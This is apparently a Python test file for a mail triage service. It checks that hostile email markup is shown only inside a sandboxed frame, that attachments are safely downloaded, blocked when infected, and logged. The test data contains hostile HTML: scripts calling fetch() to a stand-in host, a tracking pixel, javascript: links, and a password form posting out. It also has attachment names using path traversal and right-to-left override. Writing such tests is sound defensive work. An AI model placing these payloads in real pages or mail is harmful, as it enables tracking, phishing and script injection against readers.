"""Mail shown safely: formatted text in a closed frame, files saved and never shown, who looked at what on record."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from email.message import EmailMessage

import httpx
import pytest
from playwright.sync_api import expect

from tests.review.browser import WIDTHS, Visit, axe, fits
from tests.review.mail import arrive, message_of
from tests.review.office import Office
from tests.servers.clamd import MARKER, Clamd
from triage.acts.people import Role
from triage.commands.page import scan_with
from triage.parse.markup import read_markup
from triage.record.audit import Change, write_changes
from triage.record.people_tables import staff_acts
from triage.record.staff_acts import verify_acts
from triage.review.files import listed_files
from triage.review.safe_html import POLICY
from triage.settings import Scanner
from triage.vocabulary import Attachment

HOSTILE = """<html><head><style>@import "http://host.example/a.css"; body{background:url(http://host.example/b)}</style>
<base href="http://host.example/"><meta http-equiv="refresh" content="0;url=http://host.example/"></head>
<body onload="parent.document.title='preso'"><p style="position:fixed;background:url(http://host.example/c)">Buongiorno</p>
<script>parent.document.title='preso'; fetch('http://host.example/d')</script>
<img src="http://host.example/pixel.gif" onerror="parent.document.title='preso'" alt="logo">
<a href="javascript:parent.document.title='preso'">premi</a> <a href="data:text/html,<script>1</script>">qui</a>
<a href="https://altro.example/entra" target="_top">https://banca.example</a>
<form action="http://host.example/f" target="_top"><input name="password"><button>Invia</button></form>
<svg><script>parent.document.title='preso'</script><image href="http://host.example/e.svg"/></svg>
<iframe src="http://host.example/"></iframe><video src="http://host.example/v"></video></body></html>"""


def hostile_mail() -> bytes:
    mail = message_of("Buongiorno, quando siete aperti?", "Orari", "strano@example.com")
    mail.add_alternative(HOSTILE, subtype="html")
    mail.add_attachment(
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image", "svg+xml", filename="foto.svg"
    )
    mail.add_attachment(b"<script>alert(1)</script>", "text", "html", filename="../../pagina.html")
    mail.add_attachment(b"MZ\x90\x00", "application", "pdf", filename="fattura.pdf\u202eexe.scr")
    mail.add_attachment(b"%PDF-1.4\n%ciao", "application", "octet-stream", filename='il "mio" modulo però.pdf')
    return mail.as_bytes()


MAIL = hostile_mail()


@pytest.fixture
def hostile(office: Office) -> int:
    """A message that waits, with hostile markup and files."""
    return arrive(office, [MAIL])[0]


@pytest.mark.parametrize("width", WIDTHS)
def test_hostile_markup_stays_behind_glass(visit: Callable[..., Visit], hostile: int, width: int) -> None:
    """No request to anybody, no script, no way out of the frame: the visit itself fails on any of them."""
    one = visit(Role.OPERATOR, width=width)
    one.page.goto(f"/messaggi/{hostile}")
    one.page.get_by_text("Mostra con la sua grafica").click()
    frame = one.page.frame_locator("iframe")
    expect(frame.get_by_text("Buongiorno")).to_be_visible()
    expect(frame.get_by_text("[porta a: https://altro.example/entra]")).to_be_visible()
    expect(frame.get_by_text("[immagine non mostrata: logo]")).to_be_visible()
    assert frame.locator("a, img, form, input, script, svg, iframe").count() == 0
    assert "preso" not in one.page.title()
    axe(one.page)
    fits(one.page)


def test_the_frame_has_its_own_policy_and_is_no_page_of_the_service(
    http: Callable[..., httpx.Client], hostile: int
) -> None:
    answer = http(Role.READER).get(f"/messaggi/{hostile}/grafica")
    assert answer.headers["Content-Security-Policy"] == POLICY
    assert (answer.headers["X-Content-Type-Options"], answer.headers["Cache-Control"]) == ("nosniff", "no-store")
    assert "host.example/d" not in answer.text


@pytest.mark.parametrize(
    ("number", "name", "kind"),
    [
        (0, "foto.svg.da-controllare", "application/octet-stream"),
        (1, "pagina.html.da-controllare", "application/octet-stream"),
        (2, "fattura.pdfexe.scr.da-controllare", "application/octet-stream"),
        (3, "il%20_mio_%20modulo%20per%C3%B2.pdf", "application/pdf"),
    ],
)
def test_a_file_is_saved_under_a_name_that_runs_nothing_and_never_shown(
    http: Callable[..., httpx.Client], hostile: int, number: int, name: str, kind: str
) -> None:
    answer = http(Role.READER).get(f"/messaggi/{hostile}/allegati/{number}")
    assert answer.status_code == 200
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="')
    assert answer.headers["Content-Disposition"].endswith(f"filename*=UTF-8''{name}")
    assert answer.headers["Content-Type"].partition(";")[0] == kind
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer.headers["Content-Security-Policy"]
    assert answer.headers["Cross-Origin-Resource-Policy"] == "same-origin"


def test_the_original_is_given_octet_by_octet(http: Callable[..., httpx.Client], office: Office) -> None:
    (key,) = arrive(office, [MAIL])
    answer = http(Role.OPERATOR).get(f"/messaggi/{key}/originale.eml")
    assert answer.content == MAIL
    assert answer.headers["Content-Disposition"].startswith(f'attachment; filename="messaggio-{key}.eml"')


@pytest.mark.parametrize("path", ["grafica", "allegati/0", "originale.eml"])
def test_only_our_own_page_may_ask_for_what_strangers_wrote(
    http: Callable[..., httpx.Client], hostile: int, path: str
) -> None:
    client = http(Role.OPERATOR)
    for site in ("cross-site", "same-site"):
        assert client.get(f"/messaggi/{hostile}/{path}", headers={"Sec-Fetch-Site": site}).status_code == 403
    assert client.get(f"/messaggi/{hostile}/{path}", headers={"Sec-Fetch-Site": "same-origin"}).status_code == 200


@pytest.mark.parametrize("path", ["allegati/0", "originale.eml"])
def test_what_the_scanner_found_infected_cannot_be_had(
    http: Callable[..., httpx.Client], office: Office, hostile: int, path: str
) -> None:
    with office.store.write("found") as tx:
        write_changes(tx, [Change("message", hostile, "held", params={"reason": "allegato_infetto"})])
    client = http(Role.ADMINISTRATOR)
    assert client.get(f"/messaggi/{hostile}/{path}").status_code == 403
    page = client.get(f"/messaggi/{hostile}").text
    assert "programma dannoso" in page
    assert "allegati/0" not in page
    # The same octets in another message are as dangerous.
    (again,) = arrive(office, [MAIL])
    assert client.get(f"/messaggi/{again}/{path}").status_code == 403


def test_with_a_scanner_nothing_is_saved_before_it_was_looked_at(
    http: Callable[..., httpx.Client], office: Office, start_clamd: Callable[..., Clamd], hostile: int
) -> None:
    mail = message_of("Buongiorno", "Foto", "strano@example.com")
    mail.add_attachment(b"%PDF-1.4 " + MARKER, "application", "pdf", filename="modulo.pdf")
    (bad,) = arrive(office, [mail.as_bytes()])
    clamd = start_clamd()
    office.app.state.desk = replace(office.desk, scan=scan_with(Scanner(clamd.path, "", 0, 20.0)))
    client = http(Role.OPERATOR)
    assert client.get(f"/messaggi/{hostile}/allegati/3").status_code == 200
    refused = client.get(f"/messaggi/{bad}/allegati/0")
    assert refused.status_code == 403
    assert "programma dannoso" in refused.text
    assert "allegati/0" not in client.get(f"/messaggi/{bad}").text, "the page knows it from now on"
    clamd.stop()
    assert client.get(f"/messaggi/{hostile}/allegati/3").status_code == 503


def test_what_is_not_there_is_not_found(http: Callable[..., httpx.Client], hostile: int) -> None:
    client = http(Role.OPERATOR)
    for path in (
        f"/messaggi/{hostile}/allegati/9",
        "/messaggi/999/originale.eml",
        "/messaggi/999/grafica",
        "/messaggi/999",
    ):
        assert client.get(path).status_code == 404, path


def test_who_opened_and_saved_what_is_on_the_sealed_record(
    http: Callable[..., httpx.Client], office: Office, hostile: int
) -> None:
    client = http(Role.OPERATOR)
    for path in ("", "", "/grafica", "/allegati/3", "/originale.eml"):
        assert client.get(f"/messaggi/{hostile}{path}").status_code == 200
    with office.store.read("acts") as tx:
        acts = [(row.act, row.params) for row in tx.execute(staff_acts.select().order_by(staff_acts.c.id))]
        assert verify_acts(tx) == ()
    assert acts == [
        ("open_message", {}),
        ("open_markup", {}),
        ("download_file", {"file": 3}),
        ("download_original", {}),
    ]


def test_certified_mail_says_intact_and_never_valid(http: Callable[..., httpx.Client], office: Office) -> None:
    envelope = EmailMessage()
    envelope["From"] = '"Per conto di: anna@pec.example" <posta-certificata@pec.example>'
    envelope["To"] = "ufficio@example.org"
    envelope["Subject"] = "POSTA CERTIFICATA: Orari"
    envelope["X-Trasporto"] = "posta-certificata"
    envelope["Message-ID"] = "<1@pec.example>"
    envelope.set_content("Messaggio di posta certificata")
    inner = message_of("Buongiorno, quando siete aperti?", "Orari", "anna@pec.example")
    envelope.add_attachment(inner, filename="postacert.eml")
    (key,) = arrive(office, [envelope.as_bytes()])
    page = http(Role.READER).get(f"/messaggi/{key}").text
    assert "Firma del gestore" in page
    assert "nulla lo conferma" in page
    assert "valida" not in page.lower().replace("validata", "")


def test_markup_is_read_from_the_message_inside_when_that_is_what_counts() -> None:
    outer = message_of("busta", "Busta", "posta@pec.example")
    outer.add_alternative("<p>busta</p>", subtype="html")
    inner = message_of("lettera", "Lettera", "anna@pec.example")
    inner.add_alternative("<p>lettera</p>", subtype="html")
    outer.make_mixed()
    outer.attach(_attached(inner))
    octets = outer.as_bytes()
    assert (read_markup(octets).strip(), read_markup(octets, inside=True).strip()) == ("<p>busta</p>", "<p>lettera</p>")


def _attached(inner: EmailMessage) -> EmailMessage:
    part = EmailMessage()
    part.set_content(inner)
    return part


@pytest.mark.parametrize("octets", [b"", b"\x00", b"Content-Type: text/html\r\n\r\n" + b"<a " * 200_000])
def test_reading_markup_never_raises(octets: bytes) -> None:
    assert isinstance(read_markup(octets), str)


def test_parts_that_a_provider_adds_are_named_as_such() -> None:
    def part(name: str, kind: str, *, inline: bool = True) -> Attachment:
        return Attachment(name, kind, 900, inline)

    parts = (
        part("daticert.xml", "application/xml"),
        part("postacert.eml", "message/rfc822", inline=False),
        part("smime.p7s", "application/pkcs7-signature", inline=False),
        part("logo.png", "image/png"),
        part("nota.xml", "application/xml"),
        part("modulo.pdf", "application/pdf", inline=False),
    )
    assert [one.part for one in listed_files(parts, certified=True)] == [
        "dati di certificazione della PEC",
        "il messaggio dentro la PEC",
        "firma del gestore della PEC",
        "immagine nel testo",
        "parte del messaggio",
        "",
    ]
    assert listed_files(parts[:1])[0].part == "parte del messaggio", "anybody may call a file so"
